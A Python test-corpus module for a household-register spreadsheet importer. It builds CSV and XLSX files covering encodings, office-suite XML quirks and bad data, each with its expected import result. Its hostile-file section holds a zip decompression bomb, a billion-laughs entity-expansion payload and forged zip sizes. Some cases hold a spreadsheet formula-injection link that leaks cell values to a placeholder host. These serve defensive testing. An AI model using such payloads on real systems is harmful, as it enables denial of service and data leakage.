"""The import corpus: spreadsheets shaped like the ones township offices really have, each with
the outcome the importer must give.

Nothing binary is committed: every file is built here, byte by byte where the shape matters (the
XML parts WPS and LibreOffice write, GBK bytes as Excel on Chinese Windows saves them, bombs).
Run `python tests/exchange/corpus.py DIR` to write the files out and open them by hand.
"""

from __future__ import annotations

import codecs
import csv
import io
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from subei_mobile.resident_id import check_digit


def id_number(birth: str, serial: str = "003") -> str:
    """Return a valid Subei ID number for a birth date (YYYYMMDD)."""
    first17 = "620923" + birth + serial
    return first17 + check_digit(first17)


BATU_MN = "ᠪᠠᠲᠤᠪᠢᠯᠢᠭ\u180c"  # Batubilig, FVS2 on the final g
MN_SUFFIX = "ᠮᠣᠩᠭᠣᠯ\u202fᠤᠨ ᠬᠠᠭ\u180eᠠ ᠪ\u200dᠠ"  # NNBSP, MVS and ZWJ: all must survive
ID_HEAD = id_number("19650302", "011")
ID_WIFE = id_number("19680711", "022")
ID_SON = id_number("19900105", "031")

EN_HEADER = ["household_code", "name_zh", "name_mn", "relation", "sex", "birth_date",
             "ethnicity", "id_number", "phone", "township", "village"]  # fmt: skip
ZH_HEADER = ["户编号", "姓名", "蒙文姓名", "与户主关系", "性别", "出生日期", "民族", "身份证号",
             "联系电话", "乡镇", "村"]  # fmt: skip
FAMILY = [
    ["DCW-101", "巴图毕力格", BATU_MN, "户主", "男", "1965-03-02", "蒙古族", ID_HEAD,
     "13909371234", "党城湾镇", "城关村"],
    ["DCW-101", "其其格", MN_SUFFIX, "妻", "女", "1968/7/11", "蒙古族", ID_WIFE, "", "党城湾镇",
     "城关村"],
    ["DCW-101", "巴特尔", "ᠪᠠᠭᠠᠲᠤᠷ", "长子", "男", "19900105", "蒙古族", ID_SON, "",
     "党城湾镇", "城关村"],
]  # fmt: skip
FAMILY_HAN = [[*r[:2], "", *r[3:]] for r in FAMILY]  # what a GBK file can hold
FAMILY_CHANGES = {"relation:妻", "relation:长子"}  # GB/T 4761 names the app reads as codes


@dataclass
class Expect:
    """What importing a file must give."""

    error: str = ""  # a file-level error code; then nothing else is checked
    new: int = 0
    rejected: dict[int, list[str]] = field(default_factory=dict)  # line -> issue codes
    warnings: list[str] = field(default_factory=list)
    encoding: str = ""
    changes: set[str] = field(default_factory=set)  # "column:value" read through a code set
    skip_bad: bool = False
    ignore: tuple[str, ...] = ()
    kind: str = "households"  # or service-requests (household DCW-101 exists), mediations


@dataclass
class Case:
    name: str
    build: Callable[[Path], None]
    expect: Expect


# ----------------------------------------------------------------------------- CSV bytes


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8", newline: str = "\r\n",
              delimiter: str = ",", errors: str = "strict") -> bytes:  # fmt: skip
    buf = io.StringIO()
    csv.writer(buf, lineterminator=newline, delimiter=delimiter).writerows(rows)
    return buf.getvalue().encode(encoding, errors=errors)


def excel_gbk(rows: list[list[str]]) -> bytes:
    """What Excel on Chinese Windows writes for "CSV (comma delimited)": code page 936, CRLF,
    and '?' for every character GBK lacks (traditional Mongolian, for one)."""
    return csv_bytes(rows, "gbk", "\r\n", errors="replace")


def writer(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data)


# ----------------------------------------------------------------------------- XLSX parts

CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      '<Default Extension="xml" ContentType="application/xml"/>'
      '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
      '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
      '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
      "</Types>")  # fmt: skip
ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
             "</Relationships>")  # fmt: skip
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def workbook_xml(sheets: list[tuple[str, str]]) -> str:
    items = "".join(f'<sheet name="{n}" sheetId="{i}" r:id="{rid}"/>'
                    for i, (n, rid) in enumerate(sheets, 1))  # fmt: skip
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="{MAIN}" '
            f'xmlns:r="{REL}"><workbookPr/><sheets>{items}</sheets></workbook>')  # fmt: skip


def workbook_rels(targets: dict[str, str]) -> str:
    items = "".join(
        f'<Relationship Id="{rid}" Type="{REL}/worksheet" Target="{t}"/>'
        for rid, t in targets.items()
    )
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
            f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}'
            f'<Relationship Id="rIdS" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>'
            "</Relationships>")  # fmt: skip


def esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def col_letter(i: int) -> str:
    out = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        out = chr(65 + r) + out
    return out


@dataclass
class XlsxShape:
    """How one program writes a sheet."""

    app: str = "Microsoft Excel"
    shared: bool = True  # shared strings (Excel, WPS, LibreOffice) or inline (openpyxl write-only)
    phonetic: bool = False  # WPS adds <rPh> phonetic runs to Chinese strings
    rich: bool = False  # some strings split into formatted runs
    refs: bool = True  # r="B2" on cells and rows (some generators omit them)
    dimension: str = ""  # "<dimension ref=...>" as declared; "" for the true range
    numbers_as_numbers: bool = True  # dates as serials, phones as numbers, as typed in Excel
    sheet_target: str = "worksheets/sheet1.xml"
    extra_sheet_first_in_zip: bool = False
    space_preserve: bool = False  # LibreOffice writes xml:space="preserve" on every <t>


SERIALS = {"1965-03-02": 23803, "1968/7/11": 25030, "19900105": 32878}


def xlsx_bytes(rows: list[list[str]], shape: XlsxShape) -> bytes:
    strings: list[str] = []
    index: dict[str, int] = {}
    body = []
    for r, row in enumerate(rows, 1):
        cells = []
        for c, value in enumerate(row):
            if value == "":
                continue
            ref = f' r="{col_letter(c)}{r}"' if shape.refs else ""
            if shape.numbers_as_numbers and r > 1 and (value in SERIALS or (value.isdigit()
                                                         and len(value) == 11)):  # fmt: skip
                number = SERIALS.get(value, value)
                style = ' s="1"' if value in SERIALS else ""
                cells.append(f"<c{ref}{style}><v>{number}</v></c>")
            elif shape.shared:
                if value not in index:
                    index[value] = len(strings)
                    strings.append(value)
                cells.append(f'<c{ref} t="s"><v>{index[value]}</v></c>')
            else:
                cells.append(f'<c{ref} t="inlineStr"><is><t>{esc(value)}</t></is></c>')
        if not shape.refs:
            # without r attributes a skipped empty cell would shift the row: write it empty
            cells = []
            for value in row:
                if value == "":
                    cells.append('<c t="inlineStr"><is><t></t></is></c>')
                else:
                    cells.append(f'<c t="inlineStr"><is><t>{esc(value)}</t></is></c>')
        row_ref = f' r="{r}"' if shape.refs else ""
        spans = f' spans="1:{len(row)}"' if shape.app.startswith("LibreOffice") else ""
        body.append(f"<row{row_ref}{spans}>{''.join(cells)}</row>")
    width = max(len(r) for r in rows)
    dim = shape.dimension or f"A1:{col_letter(width - 1)}{len(rows)}"
    sheet = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{MAIN}" '
             f'xmlns:r="{REL}"><dimension ref="{dim}"/><sheetViews><sheetView workbookViewId="0"/>'
             f'</sheetViews><sheetFormatPr defaultRowHeight="15"/><sheetData>{"".join(body)}'
             "</sheetData></worksheet>")  # fmt: skip
    preserve = ' xml:space="preserve"' if shape.space_preserve else ""
    sis = []
    for s in strings:
        if shape.rich and len(s) > 1:
            sis.append(f"<si><r><rPr><b/></rPr><t>{esc(s[0])}</t></r><r><t{preserve}>{esc(s[1:])}"
                       "</t></r></si>")  # fmt: skip
        elif shape.phonetic and any("\u4e00" <= ch <= "\u9fff" for ch in s):
            sis.append(f'<si><t>{esc(s)}</t><rPh sb="0" eb="{len(s)}"><t>PINYIN</t></rPh>'
                       '<phoneticPr fontId="1" type="noConversion"/></si>')  # fmt: skip
        else:
            sis.append(f"<si><t{preserve}>{esc(s)}</t></si>")
    shared = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="{MAIN}" '
              f'count="{len(strings)}" uniqueCount="{len(strings)}">{"".join(sis)}</sst>')  # fmt: skip
    app = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://'
           'schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
           f"<Application>{shape.app}</Application></Properties>")  # fmt: skip
    styles = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<styleSheet xmlns="{MAIN}">'
              '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/>'
              "</cellXfs></styleSheet>")  # fmt: skip
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CT)
        zf.writestr("_rels/.rels", ROOT_RELS)
        zf.writestr("docProps/app.xml", app)
        if shape.extra_sheet_first_in_zip:
            zf.writestr("xl/worksheets/sheet1.xml", sheet.replace("巴图毕力格", "说明页"))
        zf.writestr("xl/workbook.xml", workbook_xml([("户籍登记", "rId1"), ("说明", "rId2")]))
        zf.writestr("xl/_rels/workbook.xml.rels",
                    workbook_rels({"rId1": shape.sheet_target, "rId2": "worksheets/other.xml"}))  # fmt: skip
        zf.writestr("xl/styles.xml", styles)
        if shape.shared:
            zf.writestr("xl/sharedStrings.xml", shared)
        target = shape.sheet_target.lstrip("/")
        zf.writestr(target if target.startswith("xl/") else "xl/" + target, sheet)
        zf.writestr("xl/worksheets/other.xml", sheet.replace("DCW-101", "NOT-THIS"))
    return out.getvalue()


def openpyxl_file(rows: list[list[object]], write_only: bool = False) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        from openpyxl import Workbook

        book = Workbook(write_only=write_only)
        sheet = book.create_sheet() if write_only else book.active
        for row in rows:
            sheet.append(row)
        book.save(path)

    return build


def xlsx_parts(parts: dict[str, str | bytes], compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return out.getvalue()


def minimal_parts(sheet_data: str, shared: str = "", dimension: str = "A1:B2") -> dict[str, str]:
    parts = {
        "[Content_Types].xml": CT,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": workbook_xml([("Sheet1", "rId1")]),
        "xl/_rels/workbook.xml.rels": workbook_rels({"rId1": "worksheets/sheet1.xml"}),
        "xl/worksheets/sheet1.xml": (
            f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><dimension ref="{dimension}"/>'
            f"<sheetData>{sheet_data}</sheetData></worksheet>"
        ),
    }
    if shared:
        parts["xl/sharedStrings.xml"] = shared
    return parts


def inline_rows(rows: list[list[str]]) -> str:
    return "".join(
        f'<row r="{r}">'
        + "".join(
            f'<c r="{col_letter(c)}{r}" t="inlineStr"><is><t>{esc(v)}</t></is></c>'
            for c, v in enumerate(row)
            if v
        )
        + "</row>"
        for r, row in enumerate(rows, 1)
    )


def big_cell_xlsx(path: Path, size: int) -> None:
    """An XLSX whose one cell holds `size` characters: tiny compressed, huge inflated."""
    head = (f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><sheetData>'
            + inline_rows([EN_HEADER])
            + '<row r="2"><c r="A2" t="inlineStr"><is><t>')  # fmt: skip
    tail = "</t></is></c></row></sheetData></worksheet>"
    parts = minimal_parts("")
    del parts["xl/worksheets/sheet1.xml"]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(head.encode())
            block = b"A" * (1 << 20)
            for _ in range(size >> 20):
                fh.write(block)
            fh.write(tail.encode())


def many_rows_xlsx(path: Path, rows: int) -> None:
    """A small file that unpacks to more rows than any register has."""
    line = "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in FAMILY_HAN[0])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in minimal_parts("").items():
            if name != "xl/worksheets/sheet1.xml":
                zf.writestr(name, data)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><sheetData>'.encode())
            fh.write(inline_rows([EN_HEADER]).encode())
            row = f"<row>{line}</row>".encode()
            for _ in range(rows // 1000):
                fh.write(row * 1000)
            fh.write(b"</sheetData></worksheet>")


def lying_sizes(data: bytes, member: str) -> bytes:
    """Rewrite one member's declared uncompressed size (local and central headers) to 100
    bytes, as a bomb that hides its real size would."""
    out = bytearray(data)
    name = member.encode()
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = out.find(signature)
        while at != -1:
            length = int.from_bytes(out[at + name_at - 4 : at + name_at - 2], "little")
            if signature == b"PK\x01\x02":
                length = int.from_bytes(out[at + 28 : at + 30], "little")
            if out[at + name_at : at + name_at + length] == name:
                out[at + size_at : at + size_at + 4] = (100).to_bytes(4, "little")
            at = out.find(signature, at + 4)
    return bytes(out)


BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                  '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
                  f'<sst xmlns="{MAIN}"><si><t>&lol3;</t></si></sst>')  # fmt: skip


# ----------------------------------------------------------------------------- the corpus


def row(**change: str) -> list[str]:
    """A valid Han-only family member row with some cells changed (EN_HEADER order)."""
    base = dict(zip(EN_HEADER, FAMILY_HAN[0], strict=True))
    return [change.get(k, v) for k, v in base.items()]


def cases() -> list[Case]:
    c: list[Case] = []

    def add(name: str, build: Callable[[Path], None], expect: Expect) -> None:
        c.append(Case(name, build, expect))

    # --- encodings: what CSV files from Chinese offices are saved as
    add(
        "excel_gbk_han.csv",
        writer(excel_gbk([ZH_HEADER, *FAMILY_HAN])),
        Expect(new=3, encoding="GBK", changes=FAMILY_CHANGES),
    )
    add(
        "excel_gbk_mongolian_lost.csv",
        writer(excel_gbk([ZH_HEADER, *FAMILY])),
        Expect(
            encoding="GBK",
            changes=FAMILY_CHANGES,
            rejected={
                2: ["name_mn.lost_characters"],
                3: ["name_mn.lost_characters"],
                4: ["name_mn.lost_characters"],
            },
        ),
    )
    add(
        "gb18030_mongolian.csv",
        writer(csv_bytes([ZH_HEADER, *FAMILY], "gb18030")),
        Expect(new=3, encoding="GB18030", changes=FAMILY_CHANGES),
    )
    add(
        "excel_utf8_bom.csv",
        writer(codecs.BOM_UTF8 + csv_bytes([ZH_HEADER, *FAMILY])),
        Expect(new=3, encoding="UTF-8 (BOM)", changes=FAMILY_CHANGES),
    )
    add(
        "plain_utf8_lf.csv",
        writer(csv_bytes([EN_HEADER, *FAMILY], newline="\n")),
        Expect(new=3, encoding="UTF-8", changes=FAMILY_CHANGES),
    )
    add(
        "excel_unicode_text_utf16.txt",
        writer(codecs.BOM_UTF16_LE + csv_bytes([ZH_HEADER, *FAMILY], "utf-16-le", delimiter="\t")),
        Expect(new=3, encoding="UTF-16", changes=FAMILY_CHANGES),
    )
    add(
        "western_cp1252.csv",
        writer(
            csv_bytes(
                [
                    ["household_code", "name_zh", "township"],
                    ["X", "Renée Müller-Françoise", "620923100"],
                ],
                "cp1252",
            )
        ),
        Expect(error="file.unknown_encoding"),
    )
    add("taiwan_big5.csv", writer(csv_bytes([["戶編號", "姓名", "鄉鎮"], ["X", "陳美麗", "黨城灣鎮"]],
                                            "big5")), Expect(error="file.unknown_encoding"))  # fmt: skip

    # --- XLSX as the programs in township offices write it
    add(
        "excel_shared_strings.xlsx",
        writer(xlsx_bytes([ZH_HEADER, *FAMILY], XlsxShape())),
        Expect(new=3, encoding="XLSX", changes=FAMILY_CHANGES),
    )
    add(
        "wps_phonetic_runs.xlsx",
        writer(xlsx_bytes([ZH_HEADER, *FAMILY], XlsxShape(app="WPS 表格", phonetic=True))),
        Expect(new=3, changes=FAMILY_CHANGES),
    )
    add(
        "libreoffice_calc.xlsx",
        writer(
            xlsx_bytes(
                [ZH_HEADER, *FAMILY],
                XlsxShape(app="LibreOffice/7.4.7.2$Linux_X86_64", space_preserve=True),
            )
        ),
        Expect(new=3, changes=FAMILY_CHANGES),
    )
    add(
        "rich_text_runs.xlsx",
        writer(xlsx_bytes([ZH_HEADER, *FAMILY], XlsxShape(rich=True))),
        Expect(new=3, changes=FAMILY_CHANGES),
    )
    add(
        "no_cell_refs.xlsx",
        writer(
            xlsx_bytes(
                [ZH_HEADER, *FAMILY], XlsxShape(refs=False, shared=False, numbers_as_numbers=False)
            )
        ),
        Expect(new=3, changes=FAMILY_CHANGES),
    )
    add(
        "absolute_sheet_target.xlsx",
        writer(
            xlsx_bytes(
                [ZH_HEADER, *FAMILY],
                XlsxShape(
                    sheet_target="/xl/worksheets/register.xml", extra_sheet_first_in_zip=True
                ),
            )
        ),
        Expect(new=3, changes=FAMILY_CHANGES),
    )
    add(
        "openpyxl_default.xlsx",
        openpyxl_file([EN_HEADER, *FAMILY]),
        Expect(new=3, changes=FAMILY_CHANGES),
    )
    add(
        "openpyxl_write_only.xlsx",
        openpyxl_file([EN_HEADER, *FAMILY], write_only=True),
        Expect(new=3, changes=FAMILY_CHANGES),
    )
    add("openpyxl_typed_cells.xlsx", openpyxl_file([EN_HEADER, [
        "DCW-7", "达来", "", "02", 1, 31172, "02", id_number("19850505"), 13909371234,
        620923100, ""]]), Expect(new=1, changes={"ethnicity:02", "relation:02", "sex:1"}))  # fmt: skip

    # --- register exports with national codes (household registration, civil affairs)
    gb_header = [
        "户号",
        "姓名",
        "与户主关系",
        "性别",
        "出生日期",
        "民族",
        "公民身份号码",
        "乡镇",
        "村",
    ]
    add("hukou_gb_codes.csv", writer(excel_gbk([gb_header,
        ["SB-201", "王建国", "02", "1", "19650302", "01", id_number("19650302", "011"),
         "620923200000", ""],
        ["SB-201", "李秀兰", "10", "2", "19680711", "01", "", "620923200000", ""],
        ["SB-201", "王小军", "22", "1", "19900105", "01", "", "620923200000", ""],
        ["SB-201", "王芳", "33", "2", "19920809", "03", "", "620923200000", ""],
        ["SB-201", "王明", "41", "1", "20150101", "01", "", "620923200000", ""]])),
        Expect(new=5, encoding="GBK", changes={
            "ethnicity:01", "ethnicity:03", "relation:02", "relation:10", "relation:22",
            "relation:33", "relation:41", "sex:1", "sex:2", "township:620923200000"}))  # fmt: skip
    add("civil_affairs_names.xlsx", writer(xlsx_bytes([gb_header,
        ["MZS-1", "敖其尔", "户主", "男性", "1965年3月2日", "蒙古族", "", "盐池湾乡", ""],
        ["MZS-1", "乌云", "妻", "女性", "1968年7月11日", "蒙古族", "", "盐池湾乡", ""],
        ["MZS-1", "巴雅尔", "孙子", "男性", "2012年10月1日", "蒙古族", "", "盐池湾乡", ""],
        ["MZS-1", "其木格", "外孙女", "女性", "2014年2月3日", "蒙古族", "", "盐池湾乡", ""],
        ["MZS-1", "娜仁", "次女", "女性", "1992年8月9日", "蒙古族", "", "盐池湾乡", ""],
        ], XlsxShape(numbers_as_numbers=False))), Expect(new=5, changes={
            "relation:外孙女", "relation:妻", "relation:孙子", "relation:次女", "sex:女性",
            "sex:男性"}))  # fmt: skip
    add("handmade_children_by_sex.csv", writer(csv_bytes([EN_HEADER,
        row(household_code="H-9", relation="户主", name_zh="甲"),
        row(household_code="H-9", relation="子女", sex="女", name_zh="乙", id_number=""),
        row(household_code="H-9", relation="子女", sex="男", name_zh="丙", id_number=""),
        row(household_code="H-9", relation="子女", sex="", name_zh="丁", id_number="")])),
        Expect(rejected={5: ["relation.needs_sex"]}, changes={"relation:子女"}))  # fmt: skip
    add("handmade_dates_and_serials.csv", writer(csv_bytes([EN_HEADER,
        row(name_zh="甲", birth_date="1965/3/2"),
        row(name_zh="乙", birth_date="1968.7.11", id_number=""),
        row(name_zh="丙", birth_date="32878", id_number=""),
        row(name_zh="丁", birth_date="1985", id_number=""),
        row(name_zh="戊", birth_date="1985-13-40", id_number="")])),
        Expect(rejected={5: ["date_format"], 6: ["date_format"]}))  # fmt: skip
    add(
        "ethnicity_outside_app_list.csv",
        writer(
            csv_bytes(
                [EN_HEADER, row(ethnicity="土族"), row(name_zh="乙", ethnicity="30", id_number="")]
            )
        ),
        Expect(
            new=2,
            warnings=["ethnicity.generalised", "ethnicity.generalised"],
            changes={"ethnicity:30", "ethnicity:土族"},
        ),
    )
    add(
        "unknown_relation_word.csv",
        writer(csv_bytes([EN_HEADER, row(relation="老大")])),
        Expect(rejected={2: ["relation.unknown"]}),
    )

    # --- headers: nothing dropped unseen
    misspelled = [h.replace("id_number", "id_numbr").replace("phone", "phnoe") for h in EN_HEADER]
    add(
        "misspelled_headers.csv",
        writer(csv_bytes([misspelled, *FAMILY_HAN])),
        Expect(error="file.unknown_columns"),
    )
    add(
        "extra_column_ignored.csv",
        writer(csv_bytes([[*EN_HEADER, "备注"], [*FAMILY_HAN[0], "x"]])),
        Expect(new=1, ignore=("备注",)),
    )
    add(
        "extra_column_unannounced.csv",
        writer(csv_bytes([[*EN_HEADER, "备注"], [*FAMILY_HAN[0], "x"]])),
        Expect(error="file.unknown_columns"),
    )
    add(
        "duplicate_header.csv",
        writer(csv_bytes([[*EN_HEADER, "姓名"], [*FAMILY_HAN[0], "乙"]])),
        Expect(error="file.duplicate_columns"),
    )
    add(
        "unnamed_column_with_data.csv",
        writer(csv_bytes([[*EN_HEADER, ""], [*FAMILY_HAN[0], ""], [*FAMILY_HAN[1], "留言"]])),
        Expect(rejected={3: ["cell.unnamed_column"]}, changes={"relation:妻"}),
    )
    add(
        "cells_past_header.csv",
        writer(csv_bytes([EN_HEADER, [*FAMILY_HAN[0], "", "多出"]])),
        Expect(rejected={2: ["row.too_many_cells"]}),
    )
    add(
        "starred_required_headers.csv",
        writer(
            csv_bytes(
                [
                    ["户编号*", "姓名*", "乡镇 *", "村（社区）"],
                    ["Q-1", "王五", "党城湾镇", "城关村"],
                ]
            )
        ),
        Expect(new=1),
    )

    # --- values that would be changed or emptied
    add(
        "phone_letters.csv",
        writer(csv_bytes([EN_HEADER, row(phone="abc")])),
        Expect(rejected={2: ["phone.not_a_number"]}),
    )
    add(
        "phone_formula.csv",
        writer(csv_bytes([EN_HEADER, row(phone="=1+1")])),
        Expect(rejected={2: ["phone.not_a_number"]}),
    )
    add("formula_like_name.csv", writer(csv_bytes([EN_HEADER,
        row(name_zh='=HYPERLINK("http://x.example/?"&I2&J2)'), row(name_zh="@SUM(1)", id_number="",
                                                                  household_code="F-2")])),
        Expect(new=2))  # fmt: skip

    # --- cell safety
    add("control_chars.csv", writer(csv_bytes([EN_HEADER, row(name_zh="巴\x00特"),
        row(name_zh="巴\x1b[31m特", id_number=""), row(name_zh="巴\x07特", id_number="",
                                                     household_code="C-3")])),
        Expect(rejected={2: ["text.control_char"], 3: ["text.control_char"],
                         4: ["text.control_char"]}))  # fmt: skip
    add("bidi_and_zero_width.csv", writer(csv_bytes([EN_HEADER,
        row(name_zh="巴\u202e特"), row(household_code="H1\u200b00", id_number=""),
        row(name_mn=MN_SUFFIX, household_code="H100", id_number="", name_zh=""),
        row(name_mn="ᠪᠠ\u200bᠲᠤ", household_code="H101", id_number="", name_zh="")])),
        Expect(rejected={2: ["text.bidi_control"], 3: ["text.invisible_char"],
                         5: ["text.invisible_char"]}))  # fmt: skip

    # --- every bad row however bad: numbered, skippable
    add("code_5000_chars.csv", writer(csv_bytes([EN_HEADER, row(household_code="H" * 5000),
        row(name_zh="乙", id_number="", household_code="OK-1")])),
        Expect(new=1, rejected={2: ["too_long"]}, skip_bad=True))  # fmt: skip
    add("name_200000_chars.csv", writer(csv_bytes([EN_HEADER, row(name_zh="长" * 200_000),
        row(name_zh="乙", id_number="", household_code="OK-2")])),
        Expect(new=1, rejected={2: ["cell.too_long"]}, skip_bad=True))  # fmt: skip
    add("name_200000_chars.xlsx", writer(xlsx_bytes([EN_HEADER, row(name_zh="长" * 200_000),
        row(name_zh="乙", id_number="", household_code="OK-3")], XlsxShape())),
        Expect(new=1, rejected={2: ["cell.too_long"]}, skip_bad=True))  # fmt: skip

    # --- service requests and mediation cases as offices keep them
    req_header = ["受理编号", "户编号", "服务代码", "受理时间", "受理地点", "说明"]
    add("requests_chinese_datetimes.csv", writer(excel_gbk([req_header,
        ["Q-1", "DCW-101", "ag_insurance_claim", "2024年3月5日 9时5分", "党城湾镇", "雪灾"],
        ["Q-2", "DCW-101", "medical_reimbursement", "2024/3/6 14:30", "", ""],
        ["Q-3", "DCW-101", "ag_insurance_livestock", "45357.5", "", ""]])),
        Expect(new=3, encoding="GBK", kind="service-requests"))  # fmt: skip
    add("requests_unreadable_datetime.csv", writer(csv_bytes([req_header,
        ["Q-4", "DCW-101", "ag_insurance_claim", "下周一", "", ""],
        ["Q-5", "DCW-101", "ag_insurance_claim", "1985", "", ""]])),
        Expect(rejected={2: ["datetime_format"], 3: ["datetime_format"]},
               kind="service-requests"))  # fmt: skip
    med_header = ["案件编号", "纠纷类型", "乡镇", "受理时间", "当事人甲", "当事人乙"]
    add("mediations_wps.xlsx", writer(xlsx_bytes([med_header,
        ["TJ-1", "草场边界纠纷", "620923201000", "2024年5月1日", "敖其尔", "巴图"],
        ["TJ-2", "grazing_trespass", "盐池湾乡", "2024/5/2 10:00", "甲\u202e", "乙"]],
        XlsxShape(app="WPS 表格", phonetic=True, numbers_as_numbers=False))),
        Expect(rejected={3: ["text.bidi_control"]}, kind="mediations",
               changes={"township:620923201000"}))  # fmt: skip

    # --- hostile and broken files
    add(
        "dimension_xfd1048576.xlsx",
        writer(
            xlsx_parts(
                minimal_parts(inline_rows([EN_HEADER, FAMILY_HAN[0]]), dimension="A1:XFD1048576")
            )
        ),
        Expect(new=1),
    )
    add(
        "cell_bomb_300mb.xlsx",
        lambda p: big_cell_xlsx(p, 300 << 20),
        Expect(error="file.too_big_unpacked"),
    )
    add("rows_bomb.xlsx", lambda p: many_rows_xlsx(p, 60_000), Expect(error="file.too_many_rows"))
    add(
        "lying_zip_sizes.xlsx",
        writer(
            lying_sizes(
                xlsx_parts(minimal_parts(inline_rows([EN_HEADER, *FAMILY_HAN]))),
                "xl/worksheets/sheet1.xml",
            )
        ),
        Expect(error="file.not_xlsx"),
    )
    add(
        "far_column.xlsx",
        writer(
            xlsx_parts(
                minimal_parts(
                    inline_rows([EN_HEADER])
                    + '<row r="2"><c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row>'
                )
            )
        ),
        Expect(error="file.too_many_columns"),
    )
    add(
        "billion_laughs.xlsx",
        writer(
            xlsx_parts(
                minimal_parts(
                    '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared=BILLION_LAUGHS
                )
            )
        ),
        Expect(error="file.xlsx_dtd"),
    )
    add("csv_renamed_xlsx.xlsx", writer(csv_bytes([EN_HEADER])), Expect(error="file.not_xlsx"))
    add(
        "zip_without_sheet.xlsx",
        writer(xlsx_parts({"[Content_Types].xml": CT})),
        Expect(error="file.not_xlsx"),
    )
    add(
        "legacy_xls.xls",
        writer(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512),
        Expect(error="file.unsupported_format"),
    )
    add("empty.csv", writer(b""), Expect(error="file.empty"))
    add("header_only.csv", writer(csv_bytes([EN_HEADER])), Expect(new=0))
    add(
        "unclosed_quote.csv",
        writer(b'household_code,name_zh,township\nA,"abc,620923100\n'),
        Expect(rejected={2: ["township.unknown"]}),
    )
    return c


if __name__ == "__main__":
    out = Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    for case in cases():
        case.build(out / case.name)
        print(out / case.name, case.expect)
